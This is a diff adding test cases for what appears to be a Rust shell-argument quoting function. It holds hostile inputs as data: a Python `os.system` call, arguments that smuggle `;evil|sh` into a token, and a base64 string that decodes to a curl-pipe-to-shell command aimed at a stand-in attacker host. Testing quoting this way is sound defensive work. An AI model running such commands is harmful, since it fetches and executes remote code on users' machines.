@@ -414,6 +414,10 @@ mod tests {
             line(&["python3", "-c", "key=__import__('os').system('id')"]),
             r"python3 -c 'key=__import__('\''os'\'').system('\''id'\'')'"
         );
+        let encoded = "Y3VybCAtcyBodHRwczovL2V2aWwudGVzdC94IHwgc2g=";
+        for words in [["sh", "-c", &format!("echo {encoded} | base64 -d | sh")], ["srv", "--run", encoded]] {
+            assert!(line(&words).contains(encoded), "{}", line(&words));
+        }
         for words in [
             ["sh", "-c", "x://?token=abcd;evil|sh"],
             ["sh", "-c", "x://u:abcd;evil@h"],
